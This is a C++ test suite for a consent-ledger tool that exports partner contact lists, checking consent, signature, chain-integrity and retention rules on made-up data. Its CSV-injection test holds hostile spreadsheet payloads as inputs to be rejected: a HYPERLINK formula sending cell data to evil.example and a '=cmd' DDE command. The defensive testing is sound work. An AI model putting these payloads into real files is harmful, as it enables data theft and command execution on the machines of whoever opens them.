// The export: every column rule and every reason a row or value is left out,
// on receipts made by the real core and stored in a real SQLite ledger.
#include <gtest/gtest.h>
#include <sqlite3.h>

#include "cachet/jws.h"
#include "cachet/ledger/head.h"
#include "cachet/ledger/store.h"
#include "cachet/openssl_crypto.h"
#include "cachet/receipt.h"
#include "helpers.h"

namespace cachet::export_test {
namespace {

using Fields = std::vector<std::string>;
const Fields kHeader = {"cachet_receipt_id", "name", "email", "phone", "mobile", "address", "birthday"};

const Json& partner_report(const Json& report, const std::string& id) {
  for (const Json& p : report["partners"]) {
    if (p["id"] == id) return p;
  }
  static const Json none = Json::object();
  ADD_FAILURE() << "no partner " << id << " in the report";
  return none;
}

std::int64_t count(const Json& object, const std::string& a, const std::string& b = "") {
  if (!object.contains(a)) return 0;
  if (b.empty()) return object[a].get<std::int64_t>();
  return object[a].contains(b) ? object[a][b].get<std::int64_t>() : 0;
}

// The person every column rule is checked on: postal allowed, phone objected,
// email consented, SMS not consented.
IssueSpec mixed_person() {
  IssueSpec s;
  s.decisions = {{"postal", "not-objected"}, {"phone", "objected"}, {"email", "granted"}, {"sms", "not-granted"}};
  s.contacts = {{"email", "Jean.Dupont@Example.fr"},
                {"phone", "+33 6 12 34 56 78"},
                {"mobile", "+33 6 99 99 99 99"},
                {"postal", "12 rue du Lac, 75001 Paris"}};
  return s;
}

Fields mixed_row(const std::string& id) {
  // Same values as the receipt, written differently: normalisation must match them.
  return {id,
          "Jean Dupont",
          " jean.dupont@example.fr",
          "+33612345678",
          "+33699999999",
          "12 rue du Lac,  75001 Paris",
          "1980-01-01"};
}

TEST(Export, ColumnRulesPerChannelAndPartnerChannels) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  IssueSpec sms_only;
  sms_only.decisions = {{"postal", "objected"}, {"phone", "objected"}, {"sms", "granted"}};
  sms_only.contacts = {{"mobile", "06 11 22 33 44"}};
  const std::string p2 = w.issue(sms_only);
  const std::string contacts =
      w.write_contacts("contacts.csv", {kHeader, mixed_row(p1), {p2, "Marie Curie", "", "", "06 11 22 33 44", "", ""}});
  auto outcome = w.run(contacts, "out");
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;

  // acme receives every channel: postal yes, phone objected, email granted, SMS not granted.
  const auto acme = read_csv(w.path("out/partner-acme.csv"));
  ASSERT_EQ(acme.size(), 3u);
  EXPECT_EQ(acme[0], (Fields{"reference", "postal_address", "phone", "email", "mobile"}));
  EXPECT_EQ(acme[1],
            (Fields{w.reference("acme", p1), "12 rue du Lac,  75001 Paris", "", " jean.dupont@example.fr", ""}));
  EXPECT_EQ(acme[2], (Fields{w.reference("acme", p2), "", "", "", "06 11 22 33 44"}));

  // beta receives postal and phone only (its channels list): email never goes there.
  const auto beta = read_csv(w.path("out/partner-beta.csv"));
  ASSERT_EQ(beta.size(), 2u);
  EXPECT_EQ(beta[0], (Fields{"reference", "postal_address", "phone"}));
  EXPECT_EQ(beta[1], (Fields{w.reference("beta", p1), "12 rue du Lac,  75001 Paris", ""}));

  const Json& report = outcome.value().report;
  const Json& a = partner_report(report, "acme");
  EXPECT_EQ(a["rowsWritten"], 2);
  EXPECT_EQ(a["valuesWritten"]["postal_address"], 1);
  EXPECT_EQ(a["valuesWritten"]["email"], 1);
  EXPECT_EQ(a["valuesWritten"]["mobile"], 1);
  EXPECT_EQ(count(a["valuesLeftOut"], "objected", "phone"), 1);  // p2 has no phone value
  EXPECT_EQ(count(a["valuesLeftOut"], "no-consent", "mobile"), 1);
  const Json& b = partner_report(report, "beta");
  EXPECT_EQ(b["rowsWritten"], 1);
  EXPECT_EQ(count(b["rowsLeftOut"], "objected"), 1);  // p2: postal and phone objected
  EXPECT_EQ(b["columns"], Json({"reference", "postal_address", "phone"}));
}

TEST(Export, NoOtherColumnLeaves) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  auto outcome = w.run(w.write_contacts("contacts.csv", {kHeader, mixed_row(p1)}), "out");
  ASSERT_TRUE(outcome.ok());
  for (const auto& entry : fs::directory_iterator(w.path("out"))) {
    const std::string text = read_text(entry.path().string());
    EXPECT_EQ(text.find("Jean Dupont"), std::string::npos) << entry.path();
    EXPECT_EQ(text.find("1980-01-01"), std::string::npos) << entry.path();
    const std::string name = entry.path().filename().string();
    if (name == "excluded.csv" || name.find(".changes.csv") != std::string::npos) continue;
    if (name.rfind("partner-notice-", 0) == 0 && entry.path().extension() == ".csv") {
      // The notice languages (a mail merge): the reference and which notice, nothing of the person.
      EXPECT_EQ(read_csv(entry.path().string())[0], (Fields{"reference", "locale", "notice"}));
    } else if (entry.path().extension() == ".csv") {
      // The receipt id column is replaced by the per-partner reference; nothing else but contact columns.
      // (excluded.csv lists line numbers and reasons; changes files, references and instructions.)
      const auto rows = read_csv(entry.path().string());
      for (const std::string& column : rows[0]) {
        EXPECT_TRUE(column == "reference" || column == "postal_address" || column == "phone" || column == "email" ||
                    column == "mobile")
            << column;
      }
    }
  }
}

// Keyed contact digests (receipt version 2, issue 12): the export derives each
// receipt's key from the controller's private key, so the row of a keyed
// receipt is written when its values are the ones bound and refused when one
// was changed; without the private key nothing of a keyed receipt leaves, and
// the report says why. Version 1 receipts export as before either way.
TEST(Export, KeyedDigestsMatchWithThePrivateKeyAndRefuseAChangedValue) {
  World w;
  IssueSpec keyed_spec = mixed_person();
  keyed_spec.keyed = true;
  const std::string keyed = w.issue(keyed_spec);
  const std::string changed = w.issue(keyed_spec);
  const std::string plain = w.issue(mixed_person());
  // A change made without the contacts (preference centre) carries the keyed subject.
  IssueSpec update;
  update.supersedes = w.issue(keyed_spec);
  update.method = "preference-centre";
  update.decisions = {
      {"postal", "not-objected"}, {"phone", "not-objected"}, {"email", "granted"}, {"sms", "not-granted"}};
  const std::string updated = w.issue(update);
  Fields changed_row = mixed_row(changed);
  changed_row[2] = "jean.dupond@example.fr";
  const std::string contacts =
      w.write_contacts("contacts.csv", {kHeader, mixed_row(keyed), changed_row, mixed_row(plain), mixed_row(updated)});

  Result<std::string> secret = contact_digest_secret(w.controller_key, *w.crypto);
  ASSERT_TRUE(secret.ok());
  exporter::ExportOptions options;
  options.controller_key = w.controller_public;
  options.digest_secret = secret.value();
  auto outcome = w.run(contacts, "out", options);
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
  const auto acme = read_csv(w.path("out/partner-acme.csv"));
  ASSERT_EQ(acme.size(), 5u);  // header, keyed, changed (without its email), plain, updated
  EXPECT_EQ(acme[1],
            (Fields{w.reference("acme", keyed), "12 rue du Lac,  75001 Paris", "", " jean.dupont@example.fr", ""}));
  EXPECT_EQ(acme[2], (Fields{w.reference("acme", changed), "12 rue du Lac,  75001 Paris", "", "", ""}));
  EXPECT_EQ(acme[3][0], w.reference("acme", plain));
  EXPECT_EQ(acme[4], (Fields{w.reference("acme", update.supersedes), "12 rue du Lac,  75001 Paris", "+33612345678",
                             " jean.dupont@example.fr", ""}));
  const Json& report = outcome.value().report;
  EXPECT_EQ(count(partner_report(report, "acme")["valuesLeftOut"], "digest-mismatch", "email"), 1);
  EXPECT_EQ(report["keyedDigestsUnchecked"], 0);

  exporter::ExportOptions public_only;
  public_only.controller_key = w.controller_public;
  auto blind = w.run(contacts, "out-public", public_only);
  ASSERT_TRUE(blind.ok()) << blind.problems().front().message;
  const auto written = read_csv(w.path("out-public/partner-acme.csv"));
  ASSERT_EQ(written.size(), 2u) << blind.value().summary;  // only the version 1 receipt's row
  EXPECT_EQ(written[1][0], w.reference("acme", plain));
  EXPECT_EQ(count(partner_report(blind.value().report, "acme")["rowsLeftOut"], "digest-mismatch"), 3)
      << blind.value().summary;
  EXPECT_GT(blind.value().report["keyedDigestsUnchecked"].get<std::int64_t>(), 0);
  EXPECT_NE(blind.value().summary.find("could not be checked: give the controller's private key"), std::string::npos);
}

// Every row-level and value-level reason, on the default path (the ledger's
// recorded verification) and with --reverify (signatures re-verified now):
// both must reach the same verdicts.
class EveryRowReason : public ::testing::TestWithParam<bool> {};
INSTANTIATE_TEST_SUITE_P(Export, EveryRowReason, ::testing::Values(false, true),
                         [](const ::testing::TestParamInfo<bool>& param) {
                           return param.param ? std::string("Reverify") : std::string("RecordedVerification");
                         });

TEST_P(EveryRowReason, IsCountedAndTheSameOnBothPaths) {
  const Json no_sms = test_config_json("", /*with_sms=*/false);
  const Json no_gamma = test_config_json("", true, true, /*with_gamma=*/false);
  World w;
  const Config config_no_sms = make_config(no_sms);
  const Config config_no_gamma = make_config(no_gamma);

  const std::string ok = w.issue(mixed_person());
  // Withdrawn: consented, then withdrew (R10); the row names the first receipt of the chain.
  IssueSpec first;
  first.decisions = {{"postal", "objected"}, {"phone", "objected"}, {"email", "granted"}};
  first.contacts = {{"email", "w@example.fr"}};
  const std::string withdrawn_first = w.issue(first);
  IssueSpec withdrawal;
  withdrawal.decisions = {{"postal", "objected"}, {"phone", "objected"}, {"email", "withdrawn"}};
  withdrawal.supersedes = withdrawn_first;
  withdrawal.method = "preference-centre";
  withdrawal.at = "2026-11-10T10:00:00Z";
  w.issue(withdrawal);
  // Objected to everything it could object to, consented to nothing.
  IssueSpec objected;
  objected.decisions = {{"postal", "objected"}, {"phone", "objected"}};
  objected.contacts = {{"email", "o@example.fr"}, {"phone", "0611111111"}, {"postal", "1 rue O"}};
  const std::string objected_id = w.issue(objected);
  // No consent: legitimate-interest channels open but no value for them.
  IssueSpec no_consent;
  no_consent.contacts = {{"email", "n@example.fr"}};
  const std::string no_consent_id = w.issue(no_consent);
  // Digest mismatch: email consented for one address, the file has another.
  IssueSpec mismatch;
  mismatch.decisions = {{"postal", "objected"}, {"phone", "objected"}, {"email", "granted"}};
  mismatch.contacts = {{"email", "right@example.fr"}};
  const std::string mismatch_id = w.issue(mismatch);
  // Receipt invalid: countersigned by a controller key other than --key (a
  // key used before a rotation, say).
  const Json old_key = w.crypto->generate_ed25519().value();
  IssueSpec other_controller = mixed_person();
  other_controller.controller_key = &old_key;
  const std::string tampered = w.issue(other_controller);
  // Partner not listed: the person saw a list without gamma.
  IssueSpec before_gamma = mixed_person();
  before_gamma.config = &config_no_gamma;
  const std::string before_gamma_id = w.issue(before_gamma);
  // Not informed: the receipt predates the SMS channel.
  IssueSpec before_sms;
  before_sms.decisions = {{"postal", "objected"}, {"phone", "objected"}};
  before_sms.config = &config_no_sms;
  const std::string before_sms_id = w.issue(before_sms);

  const std::string contacts = w.write_contacts(
      "contacts.csv",
      {kHeader,
       mixed_row(ok),                                                                      // line 2: written
       {"", "Nobody", "x@example.fr", "", "", "", ""},                                     // 3: no-receipt
       {"0f8fad5b-d9cb-469f-a165-70867728950e", "Ghost", "g@example.fr", "", "", "", ""},  // 4: no-receipt
       {withdrawn_first, "W", "w@example.fr", "", "", "", ""},                             // 5: withdrawn
       {objected_id, "O", "o@example.fr", "0611111111", "", "1 rue O", ""},                // 6: objected
       {no_consent_id, "N", "n@example.fr", "", "", "", ""},                               // 7: no-consent
       {mismatch_id, "M", "wrong@example.fr", "", "", "", ""},                             // 8: digest-mismatch
       {tampered, "T", "jean.dupont@example.fr", "", "", "", ""},                          // 9: receipt-invalid
       mixed_row(before_gamma_id),                                                         // 10: not gamma
       {before_sms_id, "S", "", "", "+33699999999", "", ""},                               // 11: not-informed
       mixed_row(ok)});                                                                    // 12: duplicate
  exporter::ExportOptions options;
  options.controller_key = w.controller_public;
  options.reverify = GetParam();
  auto outcome = w.run(contacts, "out", options);
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
  const Json& report = outcome.value().report;
  const Json& acme = partner_report(report, "acme");
  const Json& rows = acme["rowsLeftOut"];
  EXPECT_EQ(acme["rowsWritten"], 2) << acme.dump(2);  // ok, before_gamma
  EXPECT_EQ(count(rows, "no-receipt"), 2);
  EXPECT_EQ(count(rows, "withdrawn"), 1);
  EXPECT_EQ(count(rows, "objected"), 2);  // objected_id, before_sms (postal/phone objected first)
  EXPECT_EQ(count(rows, "no-consent"), 1);
  EXPECT_EQ(count(rows, "digest-mismatch"), 1);
  EXPECT_EQ(count(rows, "receipt-invalid"), 1);
  EXPECT_EQ(count(rows, "duplicate-person"), 1);
  EXPECT_EQ(count(rows, "partner-not-listed"), 0);
  EXPECT_EQ(count(acme["valuesLeftOut"], "not-informed", "mobile"), 1);
  EXPECT_EQ(count(acme["valuesLeftOut"], "withdrawn", "email"), 1);
  EXPECT_EQ(count(acme["valuesLeftOut"], "digest-mismatch", "email"), 1);
  EXPECT_EQ(count(acme["valuesLeftOut"], "no-consent", "email"), 2);  // no_consent_id, objected_id
  const Json& gamma = partner_report(report, "gamma");
  EXPECT_EQ(count(gamma["rowsLeftOut"], "partner-not-listed"), 1);
  EXPECT_EQ(gamma["rowsWritten"], 1);

  EXPECT_EQ(report["rowsLeftOutForEveryPartner"]["no-receipt"], 2);
  EXPECT_EQ(report["exampleLines"]["no-receipt"], Json({3, 4}));
  EXPECT_EQ(report["exampleLines"]["receipt-invalid"], Json({9}));
  EXPECT_EQ(report["exampleLines"]["duplicate-person"], Json({12}));
  EXPECT_EQ(report["contacts"]["rows"], 11);

  // Every row accounted for, for every partner.
  for (const Json& p : report["partners"]) {
    std::int64_t total = p["rowsWritten"].get<std::int64_t>();
    for (const auto& [reason, n] : p["rowsLeftOut"].items()) total += n.get<std::int64_t>();
    EXPECT_EQ(total, 11) << p["id"];
  }
  const auto acme_rows = read_csv(w.path("out/partner-acme.csv"));
  ASSERT_EQ(acme_rows.size(), 3u);
  EXPECT_EQ(acme_rows[1][0], w.reference("acme", ok));
  EXPECT_EQ(acme_rows[2][0], w.reference("acme", before_gamma_id));
  EXPECT_EQ(report["signaturesVerified"], GetParam());
  EXPECT_EQ(report["trust"]["signatures"], GetParam() ? "re-verified" : "verified-at-acceptance");
  EXPECT_EQ(report["trust"]["chain"]["ok"], true);
  EXPECT_EQ(report["trust"]["chain"]["receipts"], 9);
}

// CSV injection: an email or postal address a spreadsheet would run as a
// formula is left out and counted, never altered; phone numbers pass.
TEST(Export, FormulaLikeValuesAreLeftOutNotAltered) {
  World w;
  IssueSpec a;
  a.decisions = {{"postal", "not-objected"}, {"phone", "not-objected"}, {"email", "granted"}};
  const std::string formula_email = R"(=HYPERLINK("https://evil.example/?"&A1)@evil.example)";
  a.contacts = {{"email", formula_email}, {"phone", "+33 6 12 34 56 78"}, {"postal", "@home, 1 rue Y"}};
  const std::string a_id = w.issue(a);
  IssueSpec b;
  b.decisions = {{"postal", "not-objected"}, {"phone", "objected"}};
  b.contacts = {{"postal", "=cmd|' /C calc'!A0"}};
  const std::string b_id = w.issue(b);
  IssueSpec c;  // a hyphen or a plus inside a value is nothing
  c.decisions = {{"postal", "not-objected"}, {"phone", "objected"}};
  c.contacts = {{"postal", "1 rue Jean-Jaurès, 75001 Paris +"}};
  const std::string c_id = w.issue(c);
  const std::string contacts =
      w.write_contacts("contacts.csv", {kHeader,
                                        {a_id, "A", formula_email, "+33 6 12 34 56 78", "", "@home, 1 rue Y", ""},
                                        {b_id, "B", "", "", "", "  =cmd|' /C calc'!A0", ""},
                                        {c_id, "C", "", "", "", "1 rue Jean-Jaurès, 75001 Paris +", ""}});
  for (const bool reverify : {false, true}) {
    exporter::ExportOptions options;
    options.reverify = reverify;
    const std::string out = reverify ? "out-reverify" : "out";
    auto outcome = w.run(contacts, out, options);
    ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
    const auto acme = read_csv(w.path(out + "/partner-acme.csv"));
    ASSERT_EQ(acme.size(), 3u) << reverify;
    EXPECT_EQ(acme[1], (Fields{w.reference("acme", a_id), "", "+33 6 12 34 56 78", "", ""}));
    EXPECT_EQ(acme[2], (Fields{w.reference("acme", c_id), "1 rue Jean-Jaurès, 75001 Paris +", "", "", ""}));
    const Json& report = partner_report(outcome.value().report, "acme");
    EXPECT_EQ(count(report["valuesLeftOut"], "formula-like", "email"), 1);
    EXPECT_EQ(count(report["valuesLeftOut"], "formula-like", "postal_address"), 2);
    EXPECT_EQ(count(report["rowsLeftOut"], "formula-like"), 1);  // b: nothing else to send
    EXPECT_EQ(report["rowsWritten"], 2);
    const std::string text = read_text(w.path(out + "/partner-acme.csv"));
    EXPECT_EQ(text.find("HYPERLINK"), std::string::npos);
    EXPECT_EQ(text.find("calc"), std::string::npos);
  }
}

// Issue 12: an export with the controller's private key signs the chain head
// covering its own ledger entry, keeps it in the ledger and names it in the report.
TEST(Export, SignsTheChainHeadWithThePrivateKey) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  const std::string contacts = w.write_contacts("c.csv", {kHeader, mixed_row(p1)});
  auto plain = w.run(contacts, "plain");
  ASSERT_TRUE(plain.ok()) << plain.problems().front().message;
  EXPECT_FALSE(plain.value().report["ledger"].contains("head"));
  auto none = w.store->latest_head();
  ASSERT_TRUE(none.ok());
  EXPECT_FALSE(none.value().has_value());

  exporter::ExportOptions options;
  options.head_key = w.controller_key;
  auto outcome = w.run(contacts, "signed", options);
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
  const Json& ledger_report = outcome.value().report["ledger"];
  ASSERT_TRUE(ledger_report.contains("head"));
  EXPECT_EQ(ledger_report["head"]["seq"], ledger_report["seq"]);  // covers the export's own entry
  auto stored = w.store->latest_head();
  ASSERT_TRUE(stored.ok() && stored.value());
  auto head = ledger::verify_head(*stored.value(), *w.crypto, w.controller_public);
  ASSERT_TRUE(head.ok()) << head.problems().front().message;
  EXPECT_EQ(head.value().seq, ledger_report["seq"].get<std::int64_t>());
  EXPECT_EQ(head.value().hash, ledger_report["head"]["hash"].get<std::string>());
  auto tip = w.store->tip();
  ASSERT_TRUE(tip.ok());
  EXPECT_EQ(tip.value().hash, head.value().hash);

  // The log's tail cut off (the export's own entry): the next export refuses.
  const std::int64_t seq = head.value().seq;
  w.store.reset();
  ASSERT_EQ(run_command("sqlite3 " + w.db_path + " 'DELETE FROM log WHERE seq = " + std::to_string(seq) + "'"), 0);
  auto reopened = ledger::open_sqlite_store(w.db_path);
  ASSERT_TRUE(reopened.ok());
  w.store = std::move(reopened).value();
  for (const bool reverify : {false, true}) {
    exporter::ExportOptions again;
    again.reverify = reverify;
    auto refused = w.run(contacts, reverify ? "after-cut-reverify" : "after-cut", again);
    ASSERT_FALSE(refused.ok());
    EXPECT_EQ(refused.problems().front().code, "export_ledger_broken");
    EXPECT_NE(refused.problems().front().message.find("ledger_truncated"), std::string::npos);
  }
}

TEST(Export, BrokenChainRefusesToExport) {
  // A compact record edited behind the ledger's back (the email consent
  // flipped): the chain the export checks covers the records, in both modes.
  World w;
  const std::string p1 = w.issue(mixed_person());
  const std::string p2 = w.issue(mixed_person());
  tamper_record(w.db_path, p2);
  const std::string contacts = w.write_contacts("c.csv", {kHeader, mixed_row(p1)});
  for (const bool reverify : {false, true}) {
    exporter::ExportOptions options;
    options.reverify = reverify;
    auto outcome = w.run(contacts, "out", options);
    ASSERT_FALSE(outcome.ok());
    EXPECT_EQ(outcome.problems().front().code, "export_ledger_broken");
    EXPECT_NE(outcome.problems().front().message.find("ledger_record_mismatch"), std::string::npos);
    EXPECT_NE(outcome.problems().front().message.find(p2), std::string::npos);
    EXPECT_FALSE(fs::exists(w.path("out")));
  }
  Result<ledger::ChainReport> chain = w.store->verify_chain();  // `cachet ledger verify`
  ASSERT_TRUE(chain.ok());
  ASSERT_FALSE(chain.value().ok());
  EXPECT_EQ(chain.value().problems.front().code, "ledger_record_mismatch");
  EXPECT_EQ(chain.value().problems.front().receipt_id, p2);
}

TEST(Export, AnEditedReceiptStopsReverifyAndLedgerVerifyNotTheRecords) {
  // The stored JWS edited (not its record): the default export reads only the
  // chain-bound compact records, which still verify, and says so in its
  // report; --reverify and `ledger verify` check the receipts' bytes too.
  World w;
  const std::string p1 = w.issue(mixed_person());
  const std::string p2 = w.issue(mixed_person());
  tamper_signature(w.db_path, p2, /*rechain=*/false);
  const std::string contacts = w.write_contacts("c.csv", {kHeader, mixed_row(p1)});
  auto fast = w.run(contacts, "out");
  ASSERT_TRUE(fast.ok()) << fast.problems().front().message;
  EXPECT_EQ(fast.value().report["trust"]["chain"]["verified"], "entries-and-records");
  EXPECT_EQ(partner_report(fast.value().report, "acme")["rowsWritten"], 1);
  exporter::ExportOptions options;
  options.reverify = true;
  auto outcome = w.run(contacts, "out-reverified", options);
  ASSERT_FALSE(outcome.ok());
  EXPECT_EQ(outcome.problems().front().code, "export_ledger_broken");
  EXPECT_NE(outcome.problems().front().message.find("ledger_entry_mismatch"), std::string::npos);
  EXPECT_NE(outcome.problems().front().message.find(p2), std::string::npos);
  EXPECT_FALSE(fs::exists(w.path("out-reverified")));
}

TEST(Export, ReverifyCatchesASignatureTheRewrittenChainHides) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  tamper_signature(w.db_path, p1, /*rechain=*/true);
  ASSERT_TRUE(w.store->verify_chain().value().ok());
  const std::string contacts = w.write_contacts("c.csv", {kHeader, mixed_row(p1)});
  // The default path relies on the verification recorded at acceptance...
  auto trusted = w.run(contacts, "out");
  ASSERT_TRUE(trusted.ok()) << trusted.problems().front().message;
  EXPECT_EQ(partner_report(trusted.value().report, "acme")["rowsWritten"], 1);
  // ... --reverify checks the signatures themselves.
  exporter::ExportOptions options;
  options.reverify = true;
  options.jobs = 1;
  auto reverified = w.run(contacts, "out-reverified", options);
  ASSERT_TRUE(reverified.ok()) << reverified.problems().front().message;
  EXPECT_EQ(reverified.value().report["rowsLeftOutForEveryPartner"]["receipt-invalid"], 1);
  EXPECT_EQ(reverified.value().report["exampleLines"]["receipt-invalid"], Json({2}));
  EXPECT_EQ(partner_report(reverified.value().report, "acme")["rowsWritten"], 0);
}

TEST(Export, ReceiptNotVerifiedAtAcceptanceIsInvalid) {
  // A receipt the ledger holds with a failed verification record (written by
  // another tool straight into the store): never exported.
  World w;
  const std::string p1 = w.issue(mixed_person());
  auto stored = w.store->find(p1);
  ASSERT_TRUE(stored.ok() && stored.value());
  ledger::NewReceipt copy;
  copy.receipt_id = "6f1c3c1e-3a53-4a4e-9b8e-0d5e5f0b1a01";
  copy.jws = stored.value()->jws;
  copy.payload = stored.value()->payload.dump();  // receiptId inside is p1's: not this receipt
  copy.payload_sha256 = hex_encode(w.crypto->sha256(copy.payload));
  copy.verification = R"({"ok":false})";
  copy.countersigner_kid = stored.value()->countersigner_kid;
  copy.issued_at = stored.value()->issued_at;
  copy.collection_method = "web-form";
  copy.retention_months = 36;
  copy.received_at = "2026-11-01T10:00:00Z";
  ASSERT_TRUE(w.store->append(copy).ok());
  auto outcome = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(copy.receipt_id), mixed_row(p1)}), "out");
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
  EXPECT_EQ(outcome.value().report["rowsLeftOutForEveryPartner"]["receipt-invalid"], 1);
  EXPECT_EQ(partner_report(outcome.value().report, "acme")["rowsWritten"], 1);
}

TEST(Export, AnyReceiptIdOfTheChainFindsTheLatestState) {
  World w;
  const std::string root = w.issue(mixed_person());
  IssueSpec update = mixed_person();
  update.contacts = Json::object();
  update.supersedes = root;
  update.method = "preference-centre";
  update.decisions["email"] = "withdrawn";
  update.at = "2026-11-05T10:00:00Z";
  const std::string middle = w.issue(update);
  update.supersedes = middle;
  update.decisions["email"] = "granted";
  update.at = "2026-11-06T10:00:00Z";
  const std::string latest = w.issue(update);
  for (const std::string& id : {root, middle, latest}) {
    auto outcome = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(id)}), "out-" + id);
    ASSERT_TRUE(outcome.ok());
    const auto acme = read_csv(w.path("out-" + id + "/partner-acme.csv"));
    ASSERT_EQ(acme.size(), 2u) << id;
    EXPECT_EQ(acme[1],
              (Fields{w.reference("acme", root), "12 rue du Lac,  75001 Paris", "", " jean.dupont@example.fr", ""}))
        << id;
    const Json& timings = outcome.value().timings;
    EXPECT_EQ(timings["indexPeople"], 1);
    EXPECT_EQ(timings["indexReceiptIds"], 3);
  }
}

TEST(Export, ReferenceIsPerPartnerAndLatestReceiptWins) {
  World w;
  const std::string root = w.issue(mixed_person());
  IssueSpec update = mixed_person();
  update.contacts = Json::object();
  update.supersedes = root;
  update.method = "preference-centre";
  update.decisions["postal"] = "objected";
  update.at = "2026-11-05T10:00:00Z";
  const std::string latest = w.issue(update);
  // The row names the latest receipt; the reference is still the person's (from the chain root).
  auto outcome = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(latest)}), "out");
  ASSERT_TRUE(outcome.ok());
  const auto acme = read_csv(w.path("out/partner-acme.csv"));
  ASSERT_EQ(acme.size(), 2u);
  EXPECT_EQ(acme[1], (Fields{w.reference("acme", root), "", "", " jean.dupont@example.fr", ""}));
}

TEST(Export, ReceiptInvalidWithAnotherControllerKey) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  exporter::ExportOptions options;
  options.controller_key = public_jwk(w.crypto->generate_ed25519().value()).value();
  auto outcome = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(p1)}), "out", options);
  ASSERT_TRUE(outcome.ok());
  EXPECT_EQ(outcome.value().report["rowsLeftOutForEveryPartner"]["receipt-invalid"], 1);
  options.controller_key = w.controller_public;
  auto good = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(p1)}), "out2", options);
  ASSERT_TRUE(good.ok());
  EXPECT_EQ(partner_report(good.value().report, "acme")["rowsWritten"], 1);
}

TEST(Export, RetentionExpired) {
  World w;
  const std::string p1 = w.issue(mixed_person());  // 36 months from 2026-11-01
  exporter::ExportOptions options;
  options.at = "2029-11-02T00:00:00Z";
  auto outcome = w.run(w.write_contacts("c.csv", {kHeader, mixed_row(p1)}), "out", options);
  ASSERT_TRUE(outcome.ok());
  EXPECT_EQ(outcome.value().report["rowsLeftOutForEveryPartner"]["retention-expired"], 1);
}

TEST(Export, SmsBoundToThePhoneNumberWhenTheFormHasNoMobileField) {
  World w(test_config_json("", true, /*with_mobile=*/false));
  IssueSpec s;
  s.decisions = {{"postal", "objected"}, {"phone", "objected"}, {"sms", "granted"}};
  s.contacts = {{"phone", "06 12 34 56 78"}};
  const std::string p1 = w.issue(s);
  auto outcome =
      w.run(w.write_contacts("c.csv", {{"cachet_receipt_id", "email", "phone", "address"}, {p1, "", "0612345678", ""}}),
            "out");
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
  const auto acme = read_csv(w.path("out/partner-acme.csv"));
  ASSERT_EQ(acme.size(), 2u);
  // Phone objected, but the same number goes out in the SMS column (consent bound to it).
  EXPECT_EQ(acme[1], (Fields{w.reference("acme", p1), "", "", "", "0612345678"}));
}

TEST(Export, ColumnMappingAndMissingColumns) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  auto mapping = exporter::parse_mapping(R"({"receipt": "rid", "email": "courriel", "postal": "adresse"})");
  ASSERT_TRUE(mapping.ok());
  exporter::ExportOptions options;
  options.columns = mapping.value();
  const std::string contacts =
      w.write_contacts("c.csv", {{"rid", "courriel", "phone", "mobile", "adresse"},
                                 {p1, "jean.dupont@example.fr", "", "", "12 rue du Lac, 75001 Paris"}});
  auto outcome = w.run(contacts, "out", options);
  ASSERT_TRUE(outcome.ok()) << outcome.problems().front().message;
  EXPECT_EQ(partner_report(outcome.value().report, "acme")["rowsWritten"], 1);

  // Default mapping on that file: the receipt, email and address columns are missing.
  auto missing = w.run(contacts, "out-missing");
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(missing.problems().size(), 3u);
  for (const Problem& p : missing.problems()) {
    EXPECT_EQ(p.code, "csv_missing_column");
    EXPECT_EQ(p.path, "line 1");
  }
  EXPECT_FALSE(fs::exists(w.path("out-missing")));

  EXPECT_FALSE(exporter::parse_mapping(R"({"mail": "x"})").ok());
  EXPECT_FALSE(exporter::parse_mapping(R"({"email": 3})").ok());
  EXPECT_FALSE(exporter::parse_mapping("not json").ok());
}

TEST(Export, MalformedCsvLeavesNothingBehind) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  std::string text = "cachet_receipt_id,name,email,phone,mobile,address,birthday\r\n";
  for (int i = 0; i < 2000; ++i) text += p1 + ",A,jean.dupont@example.fr,,,,\r\n";  // batches get written first
  text += p1 + ",\"Bad \"quote,,,,,\r\n";                                           // line 2002
  text += p1 + ",too,few\r\n";                                                      // line 2003
  text += p1 + ",Soci\xE9t\xE9,,,,,\r\n";                                           // line 2004
  text += p1 + ",\"never closed,,,,,\r\n";                                          // line 2005
  auto outcome = w.run(w.write_file("bad.csv", text), "out");
  ASSERT_FALSE(outcome.ok());
  const Problems& p = outcome.problems();
  ASSERT_EQ(p.size(), 4u);
  EXPECT_EQ(p[0].code, "csv_bad_quote");
  EXPECT_EQ(p[0].path, "line 2002");
  EXPECT_EQ(p[1].code, "csv_column_count");
  EXPECT_EQ(p[1].path, "line 2003");
  EXPECT_EQ(p[2].code, "csv_invalid_utf8");
  EXPECT_EQ(p[2].path, "line 2004");
  EXPECT_EQ(p[3].code, "csv_unterminated_quote");
  EXPECT_EQ(p[3].path, "line 2005");
  EXPECT_FALSE(fs::exists(w.path("out")));
  for (const auto& entry : fs::directory_iterator(w.dir)) {
    EXPECT_EQ(entry.path().filename().string().find("cachet-export"), std::string::npos) << entry.path();
  }
}

TEST(Export, ExistingOutputNeedsForce) {
  World w;
  const std::string p1 = w.issue(mixed_person());
  const std::string contacts = w.write_contacts("c.csv", {kHeader, mixed_row(p1)});
  fs::create_directory(w.path("out"));
  w.write_file("out/old.txt", "old");
  auto refused = w.run(contacts, "out");
  ASSERT_FALSE(refused.ok());
  EXPECT_EQ(refused.problems().front().code, "export_out_exists");
  EXPECT_TRUE(fs::exists(w.path("out/old.txt")));
  exporter::ExportOptions options;
  options.force = true;
  ASSERT_TRUE(w.run(contacts, "out", options).ok());
  EXPECT_FALSE(fs::exists(w.path("out/old.txt")));
